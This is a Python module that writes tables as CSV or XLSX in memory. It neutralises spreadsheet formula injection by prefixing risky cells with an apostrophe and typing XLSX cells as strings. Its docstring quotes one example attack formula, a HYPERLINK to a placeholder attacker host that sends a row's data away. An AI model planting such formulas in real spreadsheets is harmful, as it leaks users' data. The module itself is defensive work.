"""Writing a table as CSV or XLSX, in memory, safe to open in a spreadsheet program.

**Formula injection.** A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some programs skip before reading one of those) is taken by Excel, LibreOffice and
Google Sheets as a formula: ``=HYPERLINK("http://attacker/?"&A1, "click")`` sends the row away
when clicked. Every such text cell is written with a leading apostrophe (OWASP's advice), which
spreadsheet programs show as text; numbers and dates are written as numbers and dates. In XLSX
the cells are also typed as strings (never ``write()``'s guessing), so nothing is a formula even
if the apostrophe is removed.

**Nothing on disk.** CSV is built in a string buffer; XLSX with XlsxWriter's ``in_memory`` mode
(openpyxl's writer goes through temporary files, which would leave the plaintext on disk).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from typing import Any

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("csv", "xlsx")


def safe_text(value: str) -> str:
    """``value`` as a spreadsheet will read it as text, never as a formula."""
    return "'" + value if value.startswith(DANGEROUS_FIRST) else value


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | dt.date):
        return value
    return safe_text(str(value))


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM (so that Excel reads Hangul right), CRLF line ends."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([_cell(h) for h in headers])
    for row in rows:
        writer.writerow(
            [
                v.isoformat() if isinstance(v, dt.date) else v
                for v in (_cell(value) for value in row)
            ]
        )
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(
    headers: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet: str = "Haven"
) -> bytes:
    """One sheet, the header row bold and frozen."""
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(
        out,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
            "remove_timezone": True,
        },
    )
    # No author, company or dates of ours in the document's properties.
    book.set_properties({"title": "", "author": "", "company": "", "comments": ""})
    worksheet = book.add_worksheet(sheet[:31])
    bold = book.add_format({"bold": True})
    dates = book.add_format({"num_format": "yyyy-mm-dd"})
    moments = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    for col, header in enumerate(headers):
        worksheet.write_string(0, col, safe_text(str(header)), bold)
    widths = [len(str(h)) for h in headers]
    for r, row in enumerate(rows, start=1):
        for col, value in enumerate(row):
            cell = _cell(value)
            if isinstance(cell, dt.datetime):
                worksheet.write_datetime(r, col, cell.replace(tzinfo=None), moments)
            elif isinstance(cell, dt.date):
                worksheet.write_datetime(r, col, dt.datetime.combine(cell, dt.time()), dates)  # noqa: DTZ001 - a calendar date
            elif isinstance(cell, int | float):
                worksheet.write_number(r, col, cell)
            else:
                worksheet.write_string(r, col, cell)
            if col < len(widths):
                widths[col] = max(widths[col], min(len(str(cell)), 60))
    for col, width in enumerate(widths):
        worksheet.set_column(col, col, width + 2)
    worksheet.freeze_panes(1, 0)
    book.close()
    return out.getvalue()


def table_bytes(
    fmt: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet: str = "Haven"
) -> tuple[bytes, str]:
    """(content, content type) for ``fmt`` ("csv" or "xlsx")."""
    if fmt == "xlsx":
        return xlsx_bytes(headers, rows, sheet=sheet), XLSX_TYPE
    if fmt == "csv":
        return csv_bytes(headers, rows), CSV_TYPE
    raise ValueError(f"unknown format {fmt!r}: csv or xlsx")
